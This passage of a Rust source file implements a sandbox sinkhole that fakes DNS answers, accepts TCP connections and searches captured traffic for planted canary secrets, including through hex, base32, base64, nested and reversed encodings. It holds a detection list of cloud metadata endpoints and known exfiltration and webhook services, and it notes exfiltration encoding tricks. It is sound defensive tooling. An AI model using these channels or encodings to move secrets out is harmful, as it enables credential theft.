//! The supervisor side of the sinkhole: answers DNS with fake addresses, accepts every TCP
//! connection on the common ports, records query names, original destinations, TLS SNI, HTTP
//! request lines, headers and the first bytes, and turns them into findings. A canary seen in a
//! query name or a payload (raw, hex, base32 or base64, nested) is an exfiltration.
//!
//! Everything here parses bytes a hostile script chose, on threads whose death would silence
//! every later exfiltration: the parsers are total (no indexing, no unchecked arithmetic), each
//! datagram and connection is served under `catch_unwind` (a panic that remains is recorded as
//! degraded recording, never fatal), and every store is bounded. The canary search is streaming:
//! every byte a connection sends is inspected (in segments cut at token boundaries, so encoded
//! tokens are decoded whole) until the client closes or a budget ends, and what a budget left
//! uninspected is counted in the findings.

use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::OwnedFd;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, MutexGuard};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use super::decoys::Canary;
use super::syscalls::Sighting;
use super::{Actor, Code, Finding, FindingKind, Severity};
use crate::sandbox::channel::SinkSocket;

pub use crate::sandbox::spec::SINKHOLE_TCP_PORTS as TCP_PORTS;

/// The sinkhole's budgets: what one sandboxed run may make it keep or spend.
mod budget {
    use std::time::Duration;
    /// Distinct DNS names kept one by one; later names are counted under their domain.
    pub const DNS_NAMES: usize = 512;
    /// Names carrying a canary kept one by one past [`DNS_NAMES`].
    pub const DNS_EXFIL_NAMES: usize = 256;
    /// Domains counted for names past the budget; the rest under `*`.
    pub const DNS_DOMAINS: usize = 256;
    /// Fake addresses handed out (names past it share the last one).
    pub const FAKE_IPS: usize = 1 << 16;
    /// Connections served at the same time; more are closed unread (and counted).
    pub const LIVE_CONNECTIONS: usize = 128;
    /// Connections recorded one by one; later ones are counted by destination.
    pub const CONNECTIONS: usize = 2048;
    /// Bytes of each connection kept for classification (request line, SNI, the first bytes).
    pub const HEAD: usize = 64 << 10;
    /// Bytes of connection heads kept in all; later connections keep [`SMALL_HEAD`].
    pub const HEADS_TOTAL: usize = 16 << 20;
    /// The head kept once [`HEADS_TOTAL`] is spent.
    pub const SMALL_HEAD: usize = 4 << 10;
    /// Bytes of one connection searched for canaries.
    pub const INSPECT_PER_CONNECTION: u64 = 64 << 20;
    /// Bytes searched for canaries in all.
    pub const INSPECT_TOTAL: u64 = 512 << 20;
    /// A connection that sent nothing at all is closed after this (server-first protocols:
    /// SSH, SMTP, FTP clients wait for a greeting; closing lets them fail fast).
    pub const SILENT: Duration = Duration::from_millis(300);
    /// A connection idle this long after it sent something is closed.
    pub const IDLE: Duration = Duration::from_secs(5);
    /// Largest DNS datagram read.
    pub const DATAGRAM: usize = 65_535;
}

/// A DNS name as recorded.
#[derive(Debug, Clone, Default)]
struct DnsSeen {
    qtypes: usize,
    at: u64,
    /// Indexes of the canaries seen in it.
    hits: BTreeSet<usize>,
}

/// Names past the budget, counted under their domain.
#[derive(Debug, Clone, Default)]
struct DnsOverflow {
    names: usize,
    queries: usize,
    at: u64,
    /// One of the names (the first).
    sample: String,
    hits: BTreeSet<usize>,
}

/// One TCP connection as recorded.
#[derive(Debug, Clone)]
struct Conn {
    dst: SocketAddr,
    /// The first bytes (up to the head budget).
    head: Vec<u8>,
    /// Bytes received in all.
    total: u64,
    /// Bytes received but not searched for canaries (a budget ran out).
    not_inspected: u64,
    /// Canaries seen anywhere in the stream.
    hits: BTreeSet<usize>,
    at: u64,
}

/// Everything the serving threads recorded.
#[derive(Debug, Default)]
struct State {
    dns: BTreeMap<String, DnsSeen>,
    dns_exfil_kept: usize,
    dns_overflow: BTreeMap<String, DnsOverflow>,
    tcp: Vec<Conn>,
    /// Connections past the record budget: destination → (count, canaries seen, first at).
    tcp_overflow: BTreeMap<SocketAddr, (usize, BTreeSet<usize>, u64)>,
    heads_total: usize,
    /// Connections closed unread because too many were open.
    unserved: usize,
    /// Panics caught while serving (the message of the first few).
    panics: Vec<String>,
    panic_count: usize,
}

#[derive(Debug, Default)]
struct Fake {
    by_name: HashMap<String, Ipv4Addr>,
    by_ip: HashMap<Ipv4Addr, String>,
}

#[derive(Debug)]
struct Shared {
    state: Mutex<State>,
    fake: Mutex<Fake>,
    matcher: Matcher,
    inspected: AtomicU64,
    live: AtomicUsize,
}

/// A lock that survives a panic of another holder (the data is counters and records: still
/// good).
fn lock<T>(m: &Mutex<T>) -> MutexGuard<'_, T> {
    m.lock().unwrap_or_else(std::sync::PoisonError::into_inner)
}

fn panic_message(p: &(dyn std::any::Any + Send)) -> String {
    p.downcast_ref::<&str>()
        .map(|s| (*s).to_string())
        .or_else(|| p.downcast_ref::<String>().cloned())
        .unwrap_or_else(|| "panic".into())
}

impl Shared {
    fn degraded(&self, what: &str, p: &(dyn std::any::Any + Send)) {
        let mut s = lock(&self.state);
        s.panic_count += 1;
        if s.panics.len() < 5 {
            s.panics.push(format!("{what}: {}", panic_message(p)));
        }
    }
}

/// A running sinkhole for one sandbox.
#[derive(Debug)]
pub struct Sinkhole {
    stop: Arc<AtomicBool>,
    /// Closing the write end wakes the serving threads at once (their poll sees POLLHUP).
    wake: Option<OwnedFd>,
    shared: Arc<Shared>,
    threads: Vec<JoinHandle<()>>,
    conns: Arc<Mutex<Vec<JoinHandle<()>>>>,
    /// Whether the canaries were known while serving (else the heads are searched at the end).
    streamed: bool,
}

impl Sinkhole {
    /// Start serving the sockets the sandbox created; canaries are searched for in what was
    /// kept when the sinkhole finishes. [`Sinkhole::start_with`] searches everything received.
    pub fn start(sockets: Vec<(SinkSocket, OwnedFd)>) -> Sinkhole {
        Self::start_with(sockets, &[])
    }

    /// Start serving, searching every byte received for `canaries` as it arrives.
    pub fn start_with(sockets: Vec<(SinkSocket, OwnedFd)>, canaries: &[Canary]) -> Sinkhole {
        let stop = Arc::new(AtomicBool::new(false));
        let (wake_rx, wake_tx) = match nix::unistd::pipe2(nix::fcntl::OFlag::O_CLOEXEC) {
            Ok((r, w)) => (Some(Arc::new(r)), Some(w)),
            Err(_) => (None, None),
        };
        let shared = Arc::new(Shared {
            state: Mutex::default(),
            fake: Mutex::default(),
            matcher: Matcher::new(canaries),
            inspected: AtomicU64::new(0),
            live: AtomicUsize::new(0),
        });
        let conns: Arc<Mutex<Vec<JoinHandle<()>>>> = Arc::default();
        let mut threads = Vec::new();
        let mut listeners = Vec::new();
        for (kind, fd) in sockets {
            match kind {
                SinkSocket::Dns => {
                    let udp = UdpSocket::from(fd);
                    let (stop, shared, wake) = (stop.clone(), shared.clone(), wake_rx.clone());
                    threads.push(std::thread::spawn(move || {
                        serve_dns(&udp, &stop, &shared, wake.as_deref());
                    }));
                }
                SinkSocket::Tcp(_) => listeners.push(TcpListener::from(fd)),
            }
        }
        {
            let (stop, shared, conns, wake) =
                (stop.clone(), shared.clone(), conns.clone(), wake_rx.clone());
            threads.push(std::thread::spawn(move || {
                serve_tcp(&listeners, &stop, &shared, &conns, wake.as_deref());
            }));
        }
        Sinkhole {
            stop,
            wake: wake_tx,
            shared,
            threads,
            conns,
            streamed: !canaries.is_empty(),
        }
    }

    /// Stop serving and classify everything that arrived; `connects` (from the syscall
    /// recorder, if any) name the process behind each connection.
    pub fn finish(mut self, canaries: &[Canary], connects: &[Sighting]) -> Vec<Finding> {
        self.stop.store(true, Ordering::SeqCst);
        drop(self.wake.take());
        for t in self.threads {
            let _ = t.join();
        }
        let handles: Vec<JoinHandle<()>> = lock(&self.conns).drain(..).collect();
        for t in handles {
            let _ = t.join();
        }
        let mut state = std::mem::take(&mut *lock(&self.shared.state));
        let fake = lock(&self.shared.fake).by_ip.clone();
        if !self.streamed && !canaries.is_empty() {
            // Canaries were not known while serving: search what was kept.
            let m = Matcher::new(canaries);
            for (name, seen) in &mut state.dns {
                seen.hits = m.hits(name.as_bytes());
            }
            for c in &mut state.tcp {
                c.hits = m.hits(&c.head);
                c.not_inspected = c.total.saturating_sub(c.head.len() as u64);
            }
        }
        classify(&state, &fake, canaries, connects)
    }
}

/// Wait until `fd` is readable or the wake pipe closes; `false` means stop.
fn wait_readable(
    fds: &[std::os::fd::BorrowedFd<'_>],
    wake: Option<&OwnedFd>,
    stop: &AtomicBool,
) -> bool {
    use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
    use std::os::fd::AsFd;
    let mut set: Vec<PollFd<'_>> = fds
        .iter()
        .map(|f| PollFd::new(*f, PollFlags::POLLIN))
        .collect();
    if let Some(w) = wake {
        set.push(PollFd::new(w.as_fd(), PollFlags::POLLIN));
    }
    // Without a wake pipe, poll in short slices so a stop is still noticed.
    let timeout = if wake.is_some() {
        PollTimeout::NONE
    } else {
        PollTimeout::from(50u16)
    };
    loop {
        if stop.load(Ordering::SeqCst) {
            return false;
        }
        match poll(&mut set, timeout) {
            Ok(0) | Err(nix::Error::EINTR) => continue,
            Ok(_) => {
                if wake.is_some()
                    && set
                        .last()
                        .and_then(|p| p.revents())
                        .is_some_and(|r| !r.is_empty())
                {
                    return false;
                }
                return true;
            }
            Err(_) => return false,
        }
    }
}

fn serve_dns(udp: &UdpSocket, stop: &AtomicBool, shared: &Shared, wake: Option<&OwnedFd>) {
    use std::os::fd::AsFd;
    let _ = udp.set_nonblocking(true);
    let mut buf = vec![0u8; budget::DATAGRAM];
    while wait_readable(&[udp.as_fd()], wake, stop) {
        // Drain everything queued before polling again.
        while let Ok((n, from)) = udp.recv_from(&mut buf) {
            let datagram = buf.get(..n).unwrap_or_default();
            let served = catch_unwind(AssertUnwindSafe(|| {
                if let Some(reply) = dns_datagram(datagram, shared) {
                    let _ = udp.send_to(&reply, from);
                }
            }));
            if let Err(p) = served {
                shared.degraded("DNS datagram", p.as_ref());
            }
        }
    }
}

/// Record one DNS query and build its answer.
fn dns_datagram(datagram: &[u8], shared: &Shared) -> Option<Vec<u8>> {
    let (name, qtype, qend) = parse_query(datagram)?;
    let at = super::now_unix_ms();
    let hits = shared.matcher.hits(name.as_bytes());
    record_dns(&mut lock(&shared.state), &name, qtype, at, hits);
    let ip = (qtype == 1).then(|| fake_ip(shared, &name));
    Some(answer(datagram.get(..qend)?, ip))
}

/// The domain a name past the budget is counted under: its last two labels.
fn domain_of(name: &str) -> String {
    let labels: Vec<&str> = name.split('.').filter(|l| !l.is_empty()).collect();
    let n = labels.len();
    labels[n.saturating_sub(2)..].join(".")
}

fn record_dns(state: &mut State, name: &str, _qtype: u16, at: u64, hits: BTreeSet<usize>) {
    if let Some(seen) = state.dns.get_mut(name) {
        seen.qtypes += 1;
        return;
    }
    let keep = state.dns.len() < budget::DNS_NAMES
        || (!hits.is_empty() && state.dns_exfil_kept < budget::DNS_EXFIL_NAMES);
    if keep {
        if state.dns.len() >= budget::DNS_NAMES {
            state.dns_exfil_kept += 1;
        }
        state.dns.insert(
            name.to_string(),
            DnsSeen {
                qtypes: 1,
                at,
                hits,
            },
        );
        return;
    }
    let mut domain = domain_of(name);
    if !state.dns_overflow.contains_key(&domain) && state.dns_overflow.len() >= budget::DNS_DOMAINS
    {
        domain = "*".into();
    }
    let o = state
        .dns_overflow
        .entry(domain)
        .or_insert_with(|| DnsOverflow {
            at,
            sample: name.to_string(),
            ..Default::default()
        });
    // Distinct names are not tracked past the budget: every query counts as one.
    o.names += 1;
    o.queries += 1;
    o.hits.extend(hits);
}

/// A stable fake address in 198.18.0.0/15 (benchmarking range) per name.
fn fake_ip(shared: &Shared, name: &str) -> Ipv4Addr {
    let mut map = lock(&shared.fake);
    if let Some(ip) = map.by_name.get(name) {
        return *ip;
    }
    let n = u32::try_from(map.by_name.len() + 1).unwrap_or(1);
    let ip = Ipv4Addr::from(0xC612_0000u32 | (n & 0x1_FFFF));
    if map.by_name.len() < budget::FAKE_IPS {
        map.by_name.insert(name.to_string(), ip);
        map.by_ip.insert(ip, name.to_string());
    }
    ip
}

/// (name, qtype, end of the question section). Total: `None` for anything that is not one
/// well-formed question.
fn parse_query(p: &[u8]) -> Option<(String, u16, usize)> {
    let flags = *p.get(2)?;
    let qdcount = u16::from_be_bytes([*p.get(4)?, *p.get(5)?]);
    if p.len() < 12 || flags & 0x80 != 0 || qdcount == 0 {
        return None;
    }
    let mut i: usize = 12;
    let mut labels = Vec::new();
    let mut total = 0usize;
    loop {
        let len = usize::from(*p.get(i)?);
        i = i.checked_add(1)?;
        if len == 0 {
            break;
        }
        // Compression pointers and reserved label types have no place in a question.
        if len > 63 {
            return None;
        }
        total += len + 1;
        if total > 255 {
            return None;
        }
        let end = i.checked_add(len)?;
        labels.push(String::from_utf8_lossy(p.get(i..end)?).into_owned());
        i = end;
    }
    let qtype = u16::from_be_bytes([*p.get(i)?, *p.get(i.checked_add(1)?)?]);
    // QTYPE and QCLASS must both be there.
    let qend = i.checked_add(4)?;
    if qend > p.len() {
        return None;
    }
    Some((labels.join("."), qtype, qend))
}

/// The answer to `query` (its header and question): one A record for `ip`, or no answer.
fn answer(query: &[u8], ip: Option<Ipv4Addr>) -> Vec<u8> {
    if query.len() < 12 {
        return Vec::new();
    }
    let mut r = query.to_vec();
    let rd = query.get(2).copied().unwrap_or(0) & 0x01;
    let header = [0x80 | rd, 0x80, 0, 1, 0, u8::from(ip.is_some()), 0, 0, 0, 0];
    // Bytes 2..12: flags, QDCOUNT = 1, ANCOUNT, NSCOUNT = ARCOUNT = 0.
    for (dst, src) in r.iter_mut().skip(2).zip(header) {
        *dst = src;
    }
    if let Some(ip) = ip {
        r.extend_from_slice(&[0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
        r.extend_from_slice(&ip.octets());
    }
    r
}

fn serve_tcp(
    listeners: &[TcpListener],
    stop: &Arc<AtomicBool>,
    shared: &Arc<Shared>,
    conns: &Arc<Mutex<Vec<JoinHandle<()>>>>,
    wake: Option<&OwnedFd>,
) {
    use std::os::fd::AsFd;
    for l in listeners {
        let _ = l.set_nonblocking(true);
    }
    let fds: Vec<std::os::fd::BorrowedFd<'_>> = listeners.iter().map(|l| l.as_fd()).collect();
    while wait_readable(&fds, wake, stop) {
        for l in listeners {
            while let Ok((stream, _)) = l.accept() {
                if shared.live.load(Ordering::SeqCst) >= budget::LIVE_CONNECTIONS {
                    // Too many open at once: closed unread, counted.
                    lock(&shared.state).unserved += 1;
                    drop(stream);
                    continue;
                }
                shared.live.fetch_add(1, Ordering::SeqCst);
                let (shared, stop) = (shared.clone(), stop.clone());
                let h = std::thread::spawn(move || {
                    let served = catch_unwind(AssertUnwindSafe(|| handle(stream, &shared, &stop)));
                    if let Err(p) = served {
                        shared.degraded("TCP connection", p.as_ref());
                    }
                    shared.live.fetch_sub(1, Ordering::SeqCst);
                });
                let mut c = lock(conns);
                // Finished handlers need no join; keep the list as short as what is open.
                c.retain(|h| !h.is_finished());
                c.push(h);
            }
        }
    }
}

const HTTP_METHODS: [&[u8]; 9] = [
    b"GET ",
    b"POST ",
    b"PUT ",
    b"HEAD ",
    b"CONNECT ",
    b"PATCH ",
    b"DELETE ",
    b"OPTIONS ",
    b"TRACE ",
];

/// A complete TLS record at the start of `p` holding a handshake (a ClientHello).
fn tls_record_complete(p: &[u8]) -> bool {
    match (p.first(), p.get(3), p.get(4)) {
        (Some(0x16), Some(hi), Some(lo)) => {
            p.len() >= 5 + usize::from(u16::from_be_bytes([*hi, *lo]))
        }
        _ => false,
    }
}

/// Serve one connection: read everything the client sends until it closes, goes idle or a
/// budget ends, searching all of it for canaries; answer a complete HTTP request with a 404 and
/// a TLS ClientHello with a fatal alert and close our side, so that clients fail fast and close
/// themselves (what a client sends on its half-open side is still read).
fn handle(mut stream: TcpStream, shared: &Shared, stop: &AtomicBool) {
    let _ = stream.set_nonblocking(false);
    let Ok(dst) = stream.local_addr() else { return };
    let at = super::now_unix_ms();
    let _ = stream.set_read_timeout(Some(Duration::from_millis(100)));
    let head_budget = if lock(&shared.state).heads_total < budget::HEADS_TOTAL {
        budget::HEAD
    } else {
        budget::SMALL_HEAD
    };
    let mut head = Vec::new();
    let mut total: u64 = 0;
    let mut not_inspected: u64 = 0;
    let mut scan = StreamScan::new(&shared.matcher);
    let mut answered = false;
    let started = Instant::now();
    let mut last_data = started;
    let mut buf = vec![0u8; 16 << 10];
    loop {
        let stopping = stop.load(Ordering::SeqCst);
        if stopping {
            // The sandbox is gone: take what is still queued, then end.
            let _ = stream.set_nonblocking(true);
        }
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => {
                let data = buf.get(..n).unwrap_or_default();
                total = total.saturating_add(n as u64);
                last_data = Instant::now();
                let room = head_budget.saturating_sub(head.len());
                head.extend_from_slice(data.get(..room.min(n)).unwrap_or_default());
                let inspected_before = total - not_inspected - n as u64;
                let within = inspected_before + n as u64 <= budget::INSPECT_PER_CONNECTION
                    && shared.inspected.fetch_add(n as u64, Ordering::SeqCst) + n as u64
                        <= budget::INSPECT_TOTAL;
                if within {
                    scan.feed(data);
                } else {
                    not_inspected = not_inspected.saturating_add(n as u64);
                }
                if !answered {
                    let http = HTTP_METHODS.iter().any(|m| head.starts_with(m));
                    if http && http_complete(&head) {
                        answered = true;
                        let _ = stream.write_all(
                            b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
                        );
                        // Our side is done (clients that wait for the server to close, as node's
                        // http does with an unread response, end now); theirs stays open.
                        let _ = stream.shutdown(std::net::Shutdown::Write);
                    } else if tls_record_complete(&head) {
                        answered = true;
                        // alert, TLS 1.2, length 2: fatal handshake_failure.
                        let _ = stream.write_all(&[0x15, 0x03, 0x03, 0x00, 0x02, 0x02, 0x28]);
                        let _ = stream.shutdown(std::net::Shutdown::Write);
                    }
                }
            }
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                if stopping {
                    break;
                }
                let quiet = if total == 0 {
                    budget::SILENT
                } else {
                    budget::IDLE
                };
                if last_data.elapsed() >= quiet {
                    break;
                }
            }
            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
            Err(_) => break,
        }
    }
    let hits = scan.finish();
    let mut s = lock(&shared.state);
    if s.tcp.len() < budget::CONNECTIONS
        || (!hits.is_empty() && s.tcp.len() < 2 * budget::CONNECTIONS)
    {
        s.heads_total += head.len();
        s.tcp.push(Conn {
            dst,
            head,
            total,
            not_inspected,
            hits,
            at,
        });
    } else {
        let o = s
            .tcp_overflow
            .entry(dst)
            .or_insert_with(|| (0, BTreeSet::new(), at));
        o.0 += 1;
        o.1.extend(hits);
    }
}

/// Whether `p` holds a complete HTTP request head and the body its Content-Length announces.
fn http_complete(p: &[u8]) -> bool {
    let Some(end) = p.windows(4).position(|w| w == b"\r\n\r\n") else {
        return false;
    };
    let head = String::from_utf8_lossy(p.get(..end).unwrap_or_default()).to_ascii_lowercase();
    let len = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse::<usize>().ok())
        .unwrap_or(0);
    p.len() >= end.saturating_add(4).saturating_add(len)
}

/// The TLS SNI of a ClientHello, if the payload is one. Total: any bytes give `None` or a name.
fn sni(p: &[u8]) -> Option<String> {
    let be16 = |i: usize| -> Option<usize> {
        Some(usize::from(u16::from_be_bytes([
            *p.get(i)?,
            *p.get(i.checked_add(1)?)?,
        ])))
    };
    if *p.first()? != 0x16 || *p.get(5)? != 0x01 {
        return None;
    }
    // record header (5), handshake header (4), version (2), random (32).
    let mut i: usize = 43;
    let sid = usize::from(*p.get(i)?);
    i = i.checked_add(1 + sid)?;
    let cs = be16(i)?;
    i = i.checked_add(2 + cs)?;
    let cm = usize::from(*p.get(i)?);
    i = i.checked_add(1 + cm)?;
    let ext_end = i.checked_add(2)?.checked_add(be16(i)?)?.min(p.len());
    i = i.checked_add(2)?;
    while i.checked_add(4)? <= ext_end {
        let ty = be16(i)?;
        let len = be16(i + 2)?;
        if ty == 0 {
            // server_name list: list length (2), name type (1), name length (2), name.
            let name_len = be16(i.checked_add(7)?)?;
            let start = i.checked_add(9)?;
            return Some(
                String::from_utf8_lossy(p.get(start..start.checked_add(name_len)?)?).into_owned(),
            );
        }
        i = i.checked_add(4 + len)?;
    }
    None
}

fn decode_hex(s: &str) -> Option<Vec<u8>> {
    if s.len() < 8 || s.len() % 2 != 0 || !s.bytes().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    s.as_bytes()
        .chunks(2)
        .map(|pair| {
            let hi = char::from(*pair.first()?).to_digit(16)?;
            let lo = char::from(*pair.get(1)?).to_digit(16)?;
            u8::try_from(hi * 16 + lo).ok()
        })
        .collect()
}

/// Pack `width`-bit symbols (`None` = not in the alphabet) into bytes, as base32/base64 do.
fn unpack_bits(symbols: impl Iterator<Item = Option<u8>>, width: u32) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let (mut acc, mut bits) = (0u32, 0u32);
    for v in symbols {
        acc = ((acc << width) | u32::from(v?)) & 0xFFFF;
        bits += width;
        if bits >= 8 {
            bits -= 8;
            out.push(((acc >> bits) & 0xFF) as u8);
        }
    }
    Some(out)
}

fn decode_base32(s: &str) -> Option<Vec<u8>> {
    let s = s.trim_end_matches('=').to_ascii_uppercase();
    if s.len() < 8 {
        return None;
    }
    unpack_bits(
        s.bytes().map(|b| match b {
            b'A'..=b'Z' => Some(b - b'A'),
            b'2'..=b'7' => Some(b - b'2' + 26),
            _ => None,
        }),
        5,
    )
}

fn decode_base64(s: &str) -> Option<Vec<u8>> {
    let s = s.trim_end_matches('=');
    if s.len() < 12 {
        return None;
    }
    unpack_bits(
        s.bytes().map(|b| match b {
            b'A'..=b'Z' => Some(b - b'A'),
            b'a'..=b'z' => Some(b - b'a' + 26),
            b'0'..=b'9' => Some(b - b'0' + 52),
            b'+' | b'-' => Some(62),
            b'/' | b'_' => Some(63),
            _ => None,
        }),
        6,
    )
}

/// Whether `b` can be part of an encoded token (hex, base32, base64, base64url).
fn token_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"+/_-".contains(&b)
}

/// Every text a payload may carry a secret in: itself, and the decodings of its hex, base32 and
/// base64 tokens, nested up to three levels (Shai-Hulud double-base64-encodes).
fn expansions(data: &[u8]) -> Vec<Vec<u8>> {
    let mut out = vec![data.to_vec()];
    let mut known: HashSet<Vec<u8>> = HashSet::new();
    let mut frontier = vec![data.to_vec()];
    for _ in 0..3 {
        let mut next = Vec::new();
        for d in &frontier {
            for token in d.split(|b| !token_byte(*b)) {
                // Only ASCII bytes: the split left nothing else.
                let Ok(token) = std::str::from_utf8(token) else {
                    continue;
                };
                for dec in [
                    decode_hex(token),
                    decode_base32(token),
                    decode_base64(token),
                ]
                .into_iter()
                .flatten()
                {
                    if dec.len() >= 6 && known.insert(dec.clone()) {
                        next.push(dec.clone());
                        out.push(dec);
                    }
                }
            }
        }
        if next.is_empty() || out.len() > 4096 {
            break;
        }
        frontier = next;
    }
    out
}

/// Canary fragments this long are matched too: exfiltration often splits a token across DNS
/// labels or truncates it, and 16 characters of a random canary never occur by chance.
const MIN_FRAGMENT: usize = 16;

/// The canaries' fragments, indexed once per run.
#[derive(Debug, Default)]
struct Matcher {
    /// Fragment length → fragment (lowercased) → canary indexes.
    by_len: BTreeMap<usize, HashMap<Vec<u8>, Vec<usize>>>,
}

impl Matcher {
    fn new(canaries: &[Canary]) -> Matcher {
        let mut by_len: BTreeMap<usize, HashMap<Vec<u8>, Vec<usize>>> = BTreeMap::new();
        for (i, c) in canaries.iter().enumerate() {
            let v = c.value.to_ascii_lowercase().into_bytes();
            let n = v.len().min(MIN_FRAGMENT);
            if n == 0 {
                continue;
            }
            let frags = by_len.entry(n).or_default();
            for f in v.windows(n) {
                let ids = frags.entry(f.to_vec()).or_default();
                if !ids.contains(&i) {
                    ids.push(i);
                }
            }
        }
        Matcher { by_len }
    }

    fn is_empty(&self) -> bool {
        self.by_len.is_empty()
    }

    /// Indexes of the canaries in `data`, matched without regard to ASCII case (host names, DNS
    /// labels and SNI arrive lowercased: node and resolvers fold them), through encodings and
    /// also reversed (loot stored backwards).
    fn hits(&self, data: &[u8]) -> BTreeSet<usize> {
        let mut hit = BTreeSet::new();
        if self.is_empty() || data.is_empty() {
            return hit;
        }
        let mut texts = expansions(data);
        texts.push(data.iter().rev().copied().collect());
        for t in &mut texts {
            t.make_ascii_lowercase();
        }
        for (n, frags) in &self.by_len {
            for t in &texts {
                for w in t.windows(*n) {
                    if let Some(ids) = frags.get(w) {
                        hit.extend(ids.iter().copied());
                    }
                }
            }
        }
        hit
    }
}

/// Streaming canary search over a connection: bytes are searched in segments cut after a byte
/// that cannot be part of an encoded token, so every token is decoded whole (a token longer
/// than a segment is cut on a symbol boundary of every encoding), and each segment is searched
/// together with the end of the one before it, so raw text crossing a cut is found too.
#[derive(Debug)]
struct StreamScan<'a> {
    matcher: &'a Matcher,
    pending: Vec<u8>,
    tail: Vec<u8>,
    hits: BTreeSet<usize>,
}

impl<'a> StreamScan<'a> {
    /// Bytes gathered before a segment is searched.
    const SEGMENT: usize = 64 << 10;
    /// Bytes of the previous segment searched again with the next.
    const OVERLAP: usize = 1024;

    fn new(matcher: &'a Matcher) -> Self {
        StreamScan {
            matcher,
            pending: Vec::new(),
            tail: Vec::new(),
            hits: BTreeSet::new(),
        }
    }

    fn feed(&mut self, data: &[u8]) {
        if self.matcher.is_empty() {
            return;
        }
        self.pending.extend_from_slice(data);
        while self.pending.len() >= Self::SEGMENT {
            let cut = match self.pending.iter().rposition(|b| !token_byte(*b)) {
                Some(i) => i + 1,
                // One long token: cut it at a multiple of 8 characters from its start, where
                // hex, base32 and base64 alike restart on a symbol boundary (and so does the
                // base64 of base64: 8 characters decode to 6 bytes, and SEGMENT / 8 * 6 is a
                // multiple of 8 too), so each piece decodes as the whole would.
                None => Self::SEGMENT,
            };
            let segment: Vec<u8> = self.pending.drain(..cut).collect();
            self.search(&segment);
        }
    }

    fn search(&mut self, segment: &[u8]) {
        let mut text = std::mem::take(&mut self.tail);
        text.extend_from_slice(segment);
        self.hits.extend(self.matcher.hits(&text));
        let keep = text.len().min(Self::OVERLAP);
        self.tail = text.split_off(text.len() - keep);
    }

    fn finish(mut self) -> BTreeSet<usize> {
        let rest = std::mem::take(&mut self.pending);
        if !rest.is_empty() {
            self.search(&rest);
        }
        self.hits
    }
}

/// The canaries in `data` (searched whole; for streams see [`StreamScan`]).
pub(crate) fn canaries_in<'a>(data: &[u8], canaries: &'a [Canary]) -> Vec<&'a Canary> {
    let hits = Matcher::new(canaries).hits(data);
    canaries
        .iter()
        .enumerate()
        .filter_map(|(i, c)| hits.contains(&i).then_some(c))
        .collect()
}

/// How suspicious a destination host is.
fn host_class(host: &str) -> (Severity, &'static str) {
    let h = host.trim_end_matches('.').to_ascii_lowercase();
    let ends = |d: &str| h == d || h.ends_with(&format!(".{d}"));
    if [
        "169.254.169.254",
        "metadata.google.internal",
        "100.100.100.200",
        "fd00:ec2::254",
    ]
    .contains(&h.as_str())
        || ends("metadata.azure.com")
    {
        return (Severity::High, "cloud metadata endpoint");
    }
    const SHADY: [&str; 16] = [
        "webhook.site",
        "discord.com",
        "discordapp.com",
        "api.telegram.org",
        "oastify.com",
        "oast.fun",
        "oast.pro",
        "oast.live",
        "interact.sh",
        "burpcollaborator.net",
        "ngrok.io",
        "ngrok-free.app",
        "pipedream.net",
        "trycloudflare.com",
        "pastebin.com",
        "transfer.sh",
    ];
    if SHADY.iter().any(|d| ends(d)) {
        return (Severity::High, "known exfiltration/webhook service");
    }
    const INSTALLER: [&str; 13] = [
        "github.com",
        "objects.githubusercontent.com",
        "codeload.github.com",
        "nodejs.org",
        "registry.npmjs.org",
        "registry.yarnpkg.com",
        "binaries.prisma.sh",
        "storage.googleapis.com",
        "download.cypress.io",
        "npmmirror.com",
        "electronjs.org",
        "pixelplumbing.com",
        "sentry-cdn.com",
    ];
    if ends("api.github.com") {
        return (Severity::Medium, "GitHub API");
    }
    if INSTALLER.iter().any(|d| ends(d)) {
        return (
            Severity::Low,
            "a host legitimate installers download from (prebuilt binaries, headers); the attempt failed closed",
        );
    }
    // Funding banners and install telemetry of popular packages.
    const BANNER: [&str; 4] = [
        "opencollective.com",
        "api.opencollective.com",
        "funding.communitybridge.org",
        "telemetry.nextjs.org",
    ];
    if BANNER.iter().any(|d| ends(d)) {
        return (
            Severity::Info,
            "a funding banner or install telemetry host; the attempt failed closed",
        );
    }
    // A connection by itself harms nothing: nothing secret was seen in it (that would be an
    // exfiltration, critical), and nothing left the machine. What was sent is judged by
    // `sent_class`.
    (
        Severity::Low,
        "unknown host; nothing secret was seen in what it sent",
    )
}

/// How much a payload without a secret to an otherwise unremarkable host adds: data of the
/// script's choosing uploaded (an HTTP request with a body, or a non-TLS, non-HTTP stream) is
/// suspicious; a plain GET or a TLS handshake is what every downloader does.
fn sent_class(payload: &[u8], request_line: Option<&str>) -> Option<(Severity, &'static str)> {
    if let Some(r) = request_line {
        let method = r.split(' ').next().unwrap_or("");
        let head_end = payload
            .windows(4)
            .position(|w| w == b"\r\n\r\n")
            .map_or(payload.len(), |p| p + 4);
        if ["POST", "PUT", "PATCH"].contains(&method) && payload.len() > head_end {
            return Some((Severity::Medium, "uploaded data"));
        }
        return None;
    }
    let tls = payload.first() == Some(&0x16);
    (!tls && payload.len() >= 16).then_some((Severity::Medium, "sent raw data"))
}

fn printable(data: &[u8]) -> String {
    String::from_utf8_lossy(&data[..data.len().min(200)])
        .chars()
        .map(|c| if c.is_control() && c != '\n' { '.' } else { c })
        .collect::<String>()
        .replace("\r\n", "\\n")
        .replace('\n', "\\n")
}

/// The process that made a connection: the last connect to the same destination (DNS: to any
